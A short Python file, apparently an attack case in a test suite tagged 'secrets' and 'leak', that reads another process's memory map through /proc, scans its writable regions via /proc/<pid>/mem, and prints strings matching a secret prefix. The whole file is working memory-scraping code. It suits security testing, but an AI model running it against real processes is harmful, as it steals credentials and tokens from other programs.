"""Reads the caller's memory through /proc."""

# ruff: noqa
# class: secrets
# wins: leak
# proof: plain

import re

with open(f"/proc/{SCENE['holder']}/maps") as maps, open(f"/proc/{SCENE['holder']}/mem", "rb") as memory:
    for line in maps:
        low, high, mode = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
        if mode.startswith("rw"):
            memory.seek(int(low, 16))
            try:
                body = memory.read(min(int(high, 16) - int(low, 16), 8 << 20))
            except OSError:
                continue
            for found in re.finditer(SCENE["hint"].encode() + rb"\w+", body):
                print(found[0])
